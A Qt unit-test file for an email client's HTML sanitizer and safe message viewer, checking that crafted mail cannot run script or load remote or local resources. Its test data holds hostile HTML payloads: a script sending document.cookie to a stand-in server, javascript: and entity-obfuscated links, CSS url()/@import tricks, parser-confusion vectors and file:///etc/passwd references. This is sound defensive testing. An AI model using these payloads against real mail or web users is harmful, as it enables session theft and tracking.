#include "HtmlSanitizer.h"
#include "SafeTextBrowser.h"
#include "ThreadView.h"

#include <QBuffer>
#include <QDir>
#include <QImage>
#include <QSignalSpy>
#include <QTcpServer>
#include <QTcpSocket>
#include <QTemporaryDir>
#include <QTextDocument>
#include <QTextFormat>
#include <QtTest>

using ui::HtmlSanitizer;

// A message must never reach out when shown: no script runs or survives, no remote image or style sheet is
// fetched. A real TCP server on 127.0.0.1 stands for "the network" and must see no connection.
class TestThreadView final : public QObject {
    Q_OBJECT

private:
    QTcpServer m_server;
    QString m_remote; // http://127.0.0.1:<port>
    QTemporaryDir m_dir;
    QString m_secretPng; // file:///…/secret.png, a 37×23 image: seen at that size means it was read
    QString m_previousDirectory;

    // Every reference the rendered document holds must be on the allow-list: images only inline data
    // images, anchors only http/https/mailto (or the view's own gsa-action link), no background images.
    static QString forbiddenReference(const QTextDocument *doc) {
        const QList<QTextFormat> formats = doc->allFormats();
        for (const QTextFormat &f : formats) {
            if (f.hasProperty(QTextFormat::BackgroundImageUrl))
                return QStringLiteral("background image ") +
                       f.stringProperty(QTextFormat::BackgroundImageUrl);
            if (f.hasProperty(QTextFormat::ImageName)) {
                const QString name = f.stringProperty(QTextFormat::ImageName);
                if (HtmlSanitizer::canonicalDataImage(name).isNull())
                    return QStringLiteral("image ") + name;
            }
            if (f.isCharFormat()) {
                const QString href = f.toCharFormat().anchorHref();
                if (!href.isEmpty() && !HtmlSanitizer::isSafeLink(href) &&
                    !href.startsWith(QLatin1String("gsa-action:show-remote-images")))
                    return QStringLiteral("link ") + href;
            }
        }
        return {};
    }

    // What the browser was asked for that it did not produce: anything but a decodable inline image.
    static QString forbiddenRequest(const ui::SafeTextBrowser *browser) {
        for (const QUrl &url : browser->requestedResources())
            if (HtmlSanitizer::canonicalDataImage(url.toString(QUrl::FullyEncoded)).isNull())
                return url.toString();
        return {};
    }

    db::ThreadMessage messageWithBody(const QString &html) const {
        db::ThreadMessage m;
        m.id = 7;
        m.subject = QStringLiteral("Crafted");
        m.fromAddress = QStringLiteral("mallory@evil.example");
        m.internalDate = QDateTime(QDate(2024, 5, 1), QTime(10, 0), Qt::UTC);
        m.bodyHtml = html;
        return m;
    }

    db::ThreadMessage hostileMessage() const {
        db::ThreadMessage m;
        m.id = 1;
        m.subject = QStringLiteral("Invoice");
        m.fromName = QStringLiteral("Mallory");
        m.fromAddress = QStringLiteral("mallory@evil.example");
        m.to = {QStringLiteral("victim@example.com")};
        m.internalDate = QDateTime(QDate(2024, 5, 1), QTime(10, 0), Qt::UTC);
        m.bodyHtml =
            QStringLiteral(
                "<html><head><style>@import url('%1/evil.css'); p { color: red; }</style>"
                "<link rel=\"stylesheet\" href=\"%1/style.css\"></head>"
                "<body onload=\"steal()\"><p onclick=\"steal()\">Please pay the invoice.</p>"
                "<script type=\"text/javascript\">document.location='%1/steal?c='+document.cookie;</script>"
                "<img src=\"%1/pixel.gif\" width=\"1\" height=\"1\">"
                "<img src='%1/logo.png'>"
                "<div style=\"background: url(%1/bg.png)\">Regards</div>"
                "<a href=\"javascript:steal()\">click</a> <a href=\"https://example.com/pay\">pay</a>"
                "</body></html>")
                .arg(m_remote);
        m.attachments = {{QStringLiteral("invoice.pdf"), QStringLiteral("application/pdf"), 1234}};
        return m;
    }

private Q_SLOTS:
    void initTestCase() {
        QVERIFY(m_server.listen(QHostAddress::LocalHost));
        m_remote = QStringLiteral("http://127.0.0.1:%1").arg(m_server.serverPort());
        QVERIFY(m_dir.isValid());
        QImage secret(37, 23, QImage::Format_RGB32);
        secret.fill(Qt::red);
        QVERIFY(secret.save(m_dir.filePath(QStringLiteral("secret.png"))));
        QFile css(m_dir.filePath(QStringLiteral("secret.css")));
        QVERIFY(css.open(QIODevice::WriteOnly));
        css.write("p { color: #ff0000 }");
        css.close();
        m_secretPng = QUrl::fromLocalFile(m_dir.filePath(QStringLiteral("secret.png"))).toString();
        // Relative paths would resolve against the working directory: make it the one with the secrets.
        m_previousDirectory = QDir::currentPath();
        QVERIFY(QDir::setCurrent(m_dir.path()));
    }
    void cleanupTestCase() { QDir::setCurrent(m_previousDirectory); }

    void sanitizer_data() {
        QTest::addColumn<QString>("html");
        QTest::addColumn<QString>("mustNotContain");
        QTest::addColumn<QString>("mustContain");
        QTest::newRow("script block") << "<p>a</p><script>alert(1)</script><p>b</p>"
                                      << "alert"
                                      << "<p>b</p>";
        QTest::newRow("script upper case, attributes") << "<SCRIPT SRC=x.js>bad()</SCRIPT>ok"
                                                       << "bad()"
                                                       << "ok";
        QTest::newRow("unclosed script") << "ok<script>bad()"
                                         << "bad()"
                                         << "ok";
        QTest::newRow("event handler") << "<p onclick=\"bad()\" title=\"t\">x</p>"
                                       << "onclick"
                                       << "title=\"t\"";
        QTest::newRow("handler without quotes") << "<img src=data:image/png;base64,AA onerror=bad()>"
                                                << "onerror"
                                                << "data:image/png";
        QTest::newRow("remote image") << "<img src=\"https://t.example/p.gif\">text"
                                      << "t.example"
                                      << "text";
        QTest::newRow("protocol-relative image") << "<img src=\"//t.example/p.gif\">"
                                                 << "t.example"
                                                 << "";
        QTest::newRow("link element") << "<link rel=stylesheet href=https://x.example/a.css>"
                                      << "x.example"
                                      << "";
        QTest::newRow("style import") << "<style>@import 'https://x.example/a.css';</style>"
                                      << "x.example"
                                      << "";
        // Was "local style stays": <style> blocks are now always removed (QTextDocument's CSS can reach
        // resources, and the issue asks for no <style> at all); inline style attributes stay.
        QTest::newRow("style element removed")
            << "<style>p { color: red }</style><p style=\"color: red\">x</p>"
            << "{"
            << "<p style=\"color: red\">x</p>";
        QTest::newRow("style attribute url") << "<p style=\"background:url(https://x.example/b.png)\">x</p>"
                                             << "x.example"
                                             << "<p>x</p>";
        QTest::newRow("javascript link") << "<a href=\"javascript:bad()\">x</a>"
                                         << "javascript"
                                         << "<a>x</a>";
        QTest::newRow("https link stays") << "<a href=\"https://example.com/a?b=1&amp;c=2\">x</a>"
                                          << "javascript"
                                          << "href=\"https://example.com/a?b=1&amp;c=2\"";
        QTest::newRow("iframe") << "<iframe src=\"https://x.example\">inner</iframe>after"
                                << "x.example"
                                << "after";
        QTest::newRow("comment hiding a script") << "<!-- <script>bad()</script> -->ok"
                                                 << "bad()"
                                                 << "ok";
        QTest::newRow("document wrapper")
            << "<html><head><title>T</title></head><body bgcolor=\"red\">x</body></html>"
            << "bgcolor"
            << "x";
        QTest::newRow("title dropped") << "<title>Secret title</title><p>x</p>"
                                       << "Secret"
                                       << "<p>x</p>";
        QTest::newRow("quoted gt in attribute") << "<p title=\"a>b\" onclick=\"bad()\">x</p>"
                                                << "onclick"
                                                << "title=\"a&gt;b\"";
    }
    void sanitizer() {
        QFETCH(QString, html);
        QFETCH(QString, mustNotContain);
        QFETCH(QString, mustContain);
        const QString clean = HtmlSanitizer::sanitize(html).html;
        QVERIFY2(!clean.contains(mustNotContain, Qt::CaseInsensitive), qPrintable(clean));
        QVERIFY2(clean.contains(mustContain), qPrintable(clean));
    }

    void countsWhatItBlocked() {
        const HtmlSanitizer::Result r = HtmlSanitizer::sanitize(hostileMessage().bodyHtml);
        QCOMPARE(r.removedScripts, 1);
        QVERIFY2(r.blockedRemote >= 4, qPrintable(QString::number(r.blockedRemote))); // 2 img, style, bg
    }

    void rendersHostileMessageWithoutScriptOrNetwork() {
        ui::ThreadView view;
        view.resize(800, 600);
        view.show();
        QVERIFY(QTest::qWaitForWindowExposed(&view));
        view.showThread(QStringLiteral("Invoice"), {hostileMessage()});
        QCoreApplication::processEvents();

        QTextDocument *doc = view.browser()->document();
        const QString text = doc->toPlainText();
        QVERIFY2(text.contains(QLatin1String("Please pay the invoice.")), qPrintable(text));
        QVERIFY(text.contains(QLatin1String("invoice.pdf")));          // attachments listed
        QVERIFY(text.contains(QLatin1String("mallory@evil.example"))); // headers shown
        const QString html = doc->toHtml();
        for (const char *gone : {"document.location", "document.cookie", "steal", "pixel.gif", "logo.png",
                                 "evil.css", "style.css", "bg.png", "javascript:"})
            QVERIFY2(!html.contains(QLatin1String(gone)), gone);
        QCOMPARE(view.browser()->refusedResources(), 0); // nothing left that could be fetched

        // The browser was asked for nothing and the "internet" saw no connection.
        QTest::qWait(200);
        QVERIFY(!m_server.hasPendingConnections());
    }

    // Even HTML that did not go through the sanitizer cannot load anything through the browser itself.
    void browserRefusesEveryResource() {
        ui::SafeTextBrowser browser;
        browser.resize(400, 300);
        browser.show();
        QVERIFY(QTest::qWaitForWindowExposed(&browser));
        browser.setHtml(
            QStringLiteral("<p>x</p><img src=\"%1/raw.png\" width=\"20\" height=\"20\">").arg(m_remote));
        browser.grab(); // lays out and paints the image placeholder
        QVERIFY(browser.refusedResources() > 0);
        QTest::qWait(200);
        QVERIFY(!m_server.hasPendingConnections());
    }

    // The serializer's output, exactly: canonical tags, every attribute double-quoted and escaped, every
    // text node escaped, nothing the allow-list does not name.
    void canonicalOutput_data() {
        QTest::addColumn<QString>("html");
        QTest::addColumn<QString>("expected");
        QTest::newRow("upper case, unquoted, entities")
            << "<P CLASS=x Title=a&amp;b&quot;c ID=i>Hi & <B>bye</B>"
            << "<p title=\"a&amp;b&quot;c\">Hi &amp; <b>bye</b></p>";
        QTest::newRow("text escaped") << "<p>1 < 2 > 0 \"q\"</p>"
                                      << "<p>1 &lt; 2 &gt; 0 &quot;q&quot;</p>";
        QTest::newRow("entity-encoded markup stays text") << "&lt;img src=x onerror=alert(1)&gt;"
                                                          << "&lt;img src=x onerror=alert(1)&gt;";
        QTest::newRow("single quote in attribute") << "<p title='it&apos;s'>x</p>"
                                                   << "<p title=\"it&#39;s\">x</p>";
        QTest::newRow("link canonical") << "<a href=\" HTTPS://Example.COM/a b?x=1&amp;y=2\">l</a>"
                                        << "<a href=\"https://example.com/a%20b?x=1&amp;y=2\">l</a>";
        QTest::newRow("mailto link") << "<a href=\"MAILTO:a@example.com\">m</a>"
                                     << "<a href=\"mailto:a@example.com\">m</a>";
        QTest::newRow("style reduced") << "<p style=\"COLOR: Red; background:url(x); font-family: 'Arial'; "
                                          "x:y; width: expression(1)\">t</p>"
                                       << "<p style=\"color: Red; font-family: &#39;Arial&#39;\">t</p>";
        QTest::newRow("style rgb kept, other functions not")
            << "<span style=\"color: rgb(1, 2, 3); background-color: attr(x); font-size: calc(1px)\">t</span>"
            << "<span style=\"color: rgb(1, 2, 3)\">t</span>";
        QTest::newRow("style escapes and comments")
            << "<span style=\"color: re\\64; font-size: 1/**/2px; color:red\">t</span>"
            << "<span style=\"color: red\">t</span>";
        QTest::newRow("font") << "<font color=red size=+1 face=\"Arial\" onmouseover=x>x</font>"
                              << "<font color=\"red\" size=\"+1\" face=\"Arial\">x</font>";
        QTest::newRow("table completed") << "<table><tr><td colspan=2 background=x.png>x"
                                         << "<table><tbody><tr><td colspan=\"2\">x</td></tr></tbody></table>";
        QTest::newRow("unknown containers unwrapped") << "<custom-tag>kept</custom-tag> <button>b</button>"
                                                      << "kept b";
        QTest::newRow("sectioning to div") << "<section>s</section>"
                                           << "<div>s</div>";
        QTest::newRow("void elements") << "a<br>b<hr/>c"
                                       << "a<br>b<hr>c";
        QTest::newRow("data image canonical")
            << "<img SRC=\" DATA:IMAGE/PNG;BASE64,iVBO\nRw0= \" alt=\"a\" srcset=\"x 2x\">"
            << "<img src=\"data:image/png;base64,iVBORw0=\" alt=\"a\">";
        QTest::newRow("cid image not stored, dropped") << "<img src=\"cid:part1@example\">x"
                                                       << "x";
        // gumbo replaces C0 controls by U+FFFD (HTML Standard §13.2.3.5: a parse error, the character
        // is kept); what reaches QTextDocument is no control character.
        QTest::newRow("control characters replaced") << QString::fromUtf8("a\x01"
                                                                          "b\x7f"
                                                                          "c")
                                                     << QString::fromUtf8("a\xEF\xBF\xBD"
                                                                          "b\xEF\xBF\xBD"
                                                                          "c");
        QTest::newRow("attribute values not on their pattern")
            << "<td width=\"100px;x\" align=\"left\" valign=\"javascript:\" bgcolor=\"#fff\">x</td>"
            << "<table><tbody><tr><td align=\"left\" bgcolor=\"#fff\">x</td></tr></tbody></table>";
    }
    void canonicalOutput() {
        QFETCH(QString, html);
        QFETCH(QString, expected);
        const QString out = HtmlSanitizer::sanitize(html).html;
        // <td> outside a table is parsed as text by HTML5 rules; wrap the row case.
        if (html.startsWith(QLatin1String("<td"))) {
            QCOMPARE(HtmlSanitizer::sanitize(QStringLiteral("<table><tr>") + html).html, expected);
            return;
        }
        QCOMPARE(out, expected);
    }

    void deepNestingIsFlattened() {
        QString html;
        for (int i = 0; i < 5000; ++i)
            html += QStringLiteral("<div>");
        html += QStringLiteral("deep");
        const QString out = HtmlSanitizer::sanitize(html).html;
        QVERIFY(out.contains(QLatin1String("deep")));
        QCOMPARE(out.count(QLatin1String("<div>")), 48);
        QCOMPARE(out.count(QLatin1String("</div>")), 48);
    }

    void remoteImagesOnlyWhenAsked() {
        const QString html =
            QStringLiteral("<img src=\"HTTPS://img.example/a b.png\"><img src=\"//img.example/c\">");
        HtmlSanitizer::Result r = HtmlSanitizer::sanitize(html);
        QCOMPARE(r.blockedRemoteImages, 2);
        QVERIFY(!r.html.contains(QLatin1String("img.example")));
        HtmlSanitizer::Options options;
        options.allowRemoteImages = true;
        r = HtmlSanitizer::sanitize(html, options);
        QCOMPARE(r.remoteImageUrls, QStringList{QStringLiteral("https://img.example/a%20b.png")});
        QCOMPARE(r.html, QStringLiteral("<img src=\"https://img.example/a%20b.png\">"));
        QCOMPARE(r.blockedRemoteImages, 1); // protocol-relative: never
    }

    // Crafted mail through the real thread view: the document references nothing outside the allow-list,
    // the browser is asked for nothing it does not produce itself, no connection reaches "the network",
    // and the window survives. %1: a local TCP server standing for the internet, %2: file URL of a
    // local PNG.
    void craftedMail_data() {
        QTest::addColumn<QString>("html");
        const QStringList rows = {
            // whitespace and control characters after '<'
            "ws after lt|< img src=%2>< img src=%1/a.png>",
            "tab after lt|<\timg src=%2>",
            "newline inside tag|<img\nsrc\n=\n%2\n>",
            "form feed separator|<img\fsrc=%2>",
            "control after lt|<\x01img src=%2>",
            "nul in tag name|<im%0g src=%2><img%0src=%2>",
            "slash separator|<img/src=%2>",
            // unterminated quotes
            "unterminated double quote|<img alt=\"x src=%2>ok<img src=%2>",
            "unterminated single quote|<p title='a>b<img src=%2>",
            "quote then tag|<p title=\"\"\"><img src=%2>\">x</p>",
            // comments and CDATA tricks
            "empty comment|<!--><img src=%2>-->",
            "conditional comment|<!--[if gte mso 9]><img src=%2><![endif]-->",
            "bang comment end|<!-- x --!><img src=%2>",
            "nested comment|<!--<!-- --><img src=%1/c.png>",
            "bogus comment|<? <img src=%2> ?>",
            "cdata in html|<![CDATA[<img src=%2>]]>",
            "cdata in svg|<svg><![CDATA[</svg><img src=%2>]]></svg>",
            // entity-encoded schemes
            "hex entity javascript|<a href=\"jav&#x61;script:alert(1)\">x</a>",
            "decimal entity javascript|<a href=\"&#106;avascript:alert(1)\">x</a>",
            "named tab in scheme|<a href=\"java&Tab;script:alert(1)\">x</a>",
            "entity file scheme|<img src=\"&#x66;ile:///etc/passwd\">",
            "entity file scheme link|<a href=\"&#x66;ile:///etc/passwd\">x</a>",
            "entity padded zeros|<img src=\"&#x0000066;ile:///dev/zero\">",
            // upper case and unquoted attributes
            "upper case img|<IMG SRC=%2>",
            "upper case javascript|<A HREF=JAVASCRIPT:alert(1)>x</A>",
            "upper case file|<IMG SRC=FILE:///dev/zero>",
            "upper case http|<IMG SRC=%1/UP.PNG>",
            // srcset
            "srcset|<img srcset=\"%1/a.png 1x, %2 2x\" src=\"data:image/png;base64,iVBORw0KGgo=\">",
            // background attributes
            "table background|<table background=\"%2\"><tr><td background=\"%1/b.png\">x</td></tr></table>",
            "body background|<body background=%2>x</body>",
            // CSS url() in attributes and in <style>, @import
            "style url file|<p style=\"background-image: url(%2)\">x</p>",
            "style url escaped|<p style=\"background:u\\72l(%1/x.png)\">x</p>",
            "style url entity quoted|<div style=\"background: url(&quot;%2&quot;)\">x</div>",
            "style url comment split|<div style=\"background: ur/**/l(%2)\">x</div>",
            "list style image|<ul style=\"list-style-image:url(%2)\"><li>x</li></ul>",
            "style element url|<style>p{background:url(%2)}</style><p>x</p>",
            "style element import|<style>@import \"%1/x.css\";</style><p>x</p>",
            "style element import file|<style>@import url(secret.css);</style><p>x</p>",
            "style closed by text trick|<style>/*</style><img src=%2>*/</style>",
            // <link>, <base>
            "link stylesheet|<link rel=stylesheet href=\"secret.css\"><p>x</p>",
            "link remote|<LINK REL=STYLESHEET HREF=%1/s.css><p>x</p>",
            "base file|<base href=\"file:///etc/\"><img src=\"passwd\"><a href=\"passwd\">p</a>",
            // SVG / MathML
            "svg image|<svg><image href=\"%2\"/><image xlink:href=\"%1/x.png\"/></svg>",
            "svg foreignobject|<svg><foreignObject><img src=%2></foreignObject></svg>",
            "math mtext|<math><mtext><img src=%2></mtext></math>",
            "math annotation|<math><annotation-xml encoding=\"text/html\"><img "
            "src=%2></annotation-xml></math>",
            // relative paths, file:, http:, data: of other types
            "relative path|<img src=\"secret.png\"><img src=\"./secret.png\">",
            "parent path|<img src=\"../../../../etc/passwd\">",
            "absolute path|<img src=\"/etc/passwd\">",
            "file url|<img src=\"%2\"><a href=\"%2\">f</a>",
            "qrc|<img src=\"qrc:/qt-project.org/styles/commonstyle/images/file-16.png\"><img "
            "src=\":/x.png\">",
            "http image|<img src=\"%1/pixel.gif\" width=1 height=1>",
            "protocol relative|<img src=\"//127.0.0.1:1/p.gif\">",
            "data html|<img src=\"data:text/html;base64,PHNjcmlwdD4=\"><a href=\"data:text/html,x\">d</a>",
            "data svg|<img src=\"data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=\">",
            "data image not base64|<img src=\"data:image/png,%89PNG\">",
            "data image junk payload|<img src=\"data:image/png;base64,AAAA\">",
            // /dev/zero: must neither hang nor crash
            "dev zero|<img src=\"file:///dev/zero\"><img src=/dev/zero>",
            "dev zero stylesheet|<link rel=stylesheet href=/dev/zero><style>@import '/dev/zero';</style>",
            // odds and ends
            "object embed iframe|<object data=%2></object><embed src=%2><iframe src=%2></iframe>",
            "form|<form action=%1/f><input type=image src=%2><button formaction=%1/x>b</button></form>",
            "meta refresh|<meta http-equiv=refresh content=\"0;url=%2\">",
            "video poster|<video poster=%2><source src=%2></video>",
            "input image|<input type=image src=%2>",
            "template|<template><img src=%2></template>",
            "noscript|<noscript><img src=%2></noscript>",
            "textarea|<textarea><img src=%2></textarea>",
        };
        for (const QString &row : rows) {
            const qsizetype bar = row.indexOf(u'|');
            QString html = row.mid(bar + 1);
            html.replace(QLatin1String("%1"), m_remote)
                .replace(QLatin1String("%2"), m_secretPng)
                .replace(QLatin1String("%0"), QChar(0));
            QTest::newRow(qPrintable(row.left(bar))) << html;
        }
    }
    void craftedMail() {
        QFETCH(QString, html);
        ui::ThreadView view;
        view.resize(800, 600);
        view.show();
        QVERIFY(QTest::qWaitForWindowExposed(&view));
        view.browser()->clearResourceLog();
        view.showThread(QStringLiteral("Crafted"), {messageWithBody(html)});
        view.browser()->grab(); // lays out and paints: every image is asked for now
        QCoreApplication::processEvents();

        const QString reference = forbiddenReference(view.browser()->document());
        QVERIFY2(reference.isEmpty(), qPrintable(reference));
        const QString request = forbiddenRequest(view.browser());
        QVERIFY2(request.isEmpty(), qPrintable(request));
        // (refusedResources() may be > 0 here: an inline image that does not decode gets the placeholder.)
        QVERIFY(view.isVisible());
        QVERIFY(!m_server.hasPendingConnections());
        QVERIFY(view.browser()->document()->toPlainText().contains(QLatin1String("mallory@evil.example")));
    }

    // Unsanitized HTML given straight to the browser: it answers every request itself, so QTextDocument
    // never reads a file (a 37×23 local PNG would show at that size) and /dev/zero cannot hang it.
    void browserAnswersEveryRequestItself_data() {
        QTest::addColumn<QString>("html");
        QTest::addColumn<QString>("image"); // the image resource to check, empty: none
        QTest::newRow("file png") << QStringLiteral("<img src=\"%1\">").arg(m_secretPng) << m_secretPng;
        QTest::newRow("relative png")
            << QStringLiteral("<img src=\"secret.png\">") << QStringLiteral("secret.png");
        QTest::newRow("dev zero") << QStringLiteral("<img src=\"file:///dev/zero\">")
                                  << QStringLiteral("file:///dev/zero");
        QTest::newRow("dev zero path")
            << QStringLiteral("<img src=\"/dev/zero\">") << QStringLiteral("/dev/zero");
        QTest::newRow("table background")
            << QStringLiteral("<table background=\"secret.png\"><tr><td>x</td></tr></table>") << QString();
        QTest::newRow("link dev zero")
            << QStringLiteral("<link rel=stylesheet href=\"/dev/zero\"><p>x</p>") << QString();
        QTest::newRow("import css file")
            << QStringLiteral("<style>@import url(secret.css);</style><p>x</p>") << QString();
        QTest::newRow("data svg") << QStringLiteral(
                                         "<img src=\"data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=\">")
                                  << QStringLiteral("data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=");
    }
    void browserAnswersEveryRequestItself() {
        QFETCH(QString, html);
        QFETCH(QString, image);
        ui::SafeTextBrowser browser;
        browser.resize(400, 300);
        browser.show();
        QVERIFY(QTest::qWaitForWindowExposed(&browser));
        browser.setHtml(html);
        browser.grab();
        QCoreApplication::processEvents();
        QVERIFY(browser.isVisible());
        if (!image.isEmpty()) {
            const QVariant v = browser.document()->resource(QTextDocument::ImageResource, QUrl(image));
            QCOMPARE(v.userType(), int(QMetaType::QImage));
            QCOMPARE(v.value<QImage>().size(), QSize(1, 1)); // the placeholder, not the file
        }
        // Stylesheets from disk did not apply: no red text.
        const QList<QTextFormat> formats = browser.document()->allFormats();
        for (const QTextFormat &f : formats)
            QVERIFY(!(f.hasProperty(QTextFormat::ForegroundBrush) &&
                      f.brushProperty(QTextFormat::ForegroundBrush).color() == QColor(Qt::red)));
    }

    void inlineDataImageIsDecodedByTheBrowser() {
        QImage png(5, 3, QImage::Format_RGB32);
        png.fill(Qt::blue);
        QByteArray bytes;
        QBuffer buffer(&bytes);
        QVERIFY(buffer.open(QIODevice::WriteOnly));
        QVERIFY(png.save(&buffer, "PNG"));
        const QString url = QStringLiteral("data:image/png;base64,") + QString::fromLatin1(bytes.toBase64());
        ui::ThreadView view;
        view.resize(400, 300);
        view.show();
        QVERIFY(QTest::qWaitForWindowExposed(&view));
        view.showThread(QStringLiteral("x"), {messageWithBody(QStringLiteral("<img src=\"%1\">").arg(url))});
        view.browser()->grab();
        QCOMPARE(view.browser()->requestedResources().size(), 1);
        QCOMPARE(view.browser()->refusedResources(), 0);
        const QVariant v = view.browser()->document()->resource(QTextDocument::ImageResource, QUrl(url));
        QCOMPARE(v.value<QImage>().size(), QSize(5, 3));
    }

    // "Show remote images" is an explicit action per message: nothing is fetched before it, the image is
    // fetched (from the local server standing for its host) after it, for that message only.
    void showRemoteImagesIsAnExplicitPerMessageAction() {
        QTcpServer images;
        QVERIFY(images.listen(QHostAddress::LocalHost));
        const QString base = QStringLiteral("http://127.0.0.1:%1").arg(images.serverPort());
        db::ThreadMessage first = messageWithBody(QStringLiteral("<img src=\"%1/one.png\">one").arg(base));
        db::ThreadMessage second = messageWithBody(QStringLiteral("<img src=\"%1/two.png\">two").arg(base));
        ui::ThreadView view;
        view.resize(600, 400);
        view.show();
        QVERIFY(QTest::qWaitForWindowExposed(&view));
        view.showThread(QStringLiteral("x"), {first, second});
        view.browser()->grab();
        QTest::qWait(100);
        QVERIFY(!images.hasPendingConnections());
        QVERIFY(!view.remoteImagesShown(0));
        QVERIFY(view.browser()->toHtml().contains(QLatin1String("gsa-action:show-remote-images?message=1")));

        // The link the view put under the first message, clicked.
        Q_EMIT view.browser()->anchorClicked(QUrl(QStringLiteral("gsa-action:show-remote-images?message=0")));
        QVERIFY(view.remoteImagesShown(0));
        QVERIFY(!view.remoteImagesShown(1));
        QImage pixel(4, 2, QImage::Format_RGB32);
        pixel.fill(Qt::green);
        QByteArray png;
        QBuffer buffer(&png);
        QVERIFY(buffer.open(QIODevice::WriteOnly));
        QVERIFY(pixel.save(&buffer, "PNG"));
        QStringList requests;
        connect(&images, &QTcpServer::newConnection, this, [&] {
            while (QTcpSocket *socket = images.nextPendingConnection()) {
                connect(socket, &QTcpSocket::readyRead, socket, [&, socket] {
                    while (socket->canReadLine()) {
                        const QByteArray line = socket->readLine();
                        if (line.startsWith("GET "))
                            requests += QString::fromLatin1(line.split(' ').value(1));
                        if (line == "\r\n") {
                            socket->write("HTTP/1.1 200 OK\r\nContent-Type: image/png\r\nContent-Length: " +
                                          QByteArray::number(png.size()) + "\r\n\r\n" + png);
                        }
                    }
                });
            }
        });
        view.browser()->grab();
        const QUrl one(base + QStringLiteral("/one.png"));
        QTRY_COMPARE(
            view.browser()->document()->resource(QTextDocument::ImageResource, one).value<QImage>().size(),
            QSize(4, 2));
        QTest::qWait(200);
        QCOMPARE(requests, QStringList{QStringLiteral("/one.png")}); // not the second message's image
        const QString request = forbiddenRequest(view.browser());
        QCOMPARE(request, one.toString()); // the only one not inline, and the operator's choice

        // A newly shown thread starts with remote images off again.
        view.showThread(QStringLiteral("x"), {first});
        QVERIFY(!view.remoteImagesShown(0));
    }

    void linksGoToTheSystemBrowserOnlyWhenClicked() {
        ui::SafeTextBrowser browser;
        browser.setOpenLinksExternally(false);
        QSignalSpy spy(&browser, &ui::SafeTextBrowser::externalLinkRequested);
        QVERIFY(!browser.openLinks());
        Q_EMIT browser.anchorClicked(QUrl(QStringLiteral("https://example.com/pay")));
        Q_EMIT browser.anchorClicked(QUrl(QStringLiteral("file:///etc/passwd")));
        Q_EMIT browser.anchorClicked(QUrl(QStringLiteral("gsa-action:show-remote-images?message=0")));
        QCOMPARE(spy.count(), 1);
        QCOMPARE(spy.at(0).at(0).toUrl(), QUrl(QStringLiteral("https://example.com/pay")));
    }

    void plainTextIsEscaped() {
        db::ThreadMessage m;
        m.fromAddress = QStringLiteral("a@example.com");
        m.internalDate = QDateTime::currentDateTimeUtc();
        m.bodyText = QStringLiteral("1 < 2 && <b>not bold</b>");
        const QString html = ui::ThreadView::renderHtml({m});
        QVERIFY(html.contains(QLatin1String("1 &lt; 2 &amp;&amp; &lt;b&gt;not bold&lt;/b&gt;")));
    }
};

QTEST_MAIN(TestThreadView)
#include "TestThreadView.moc"
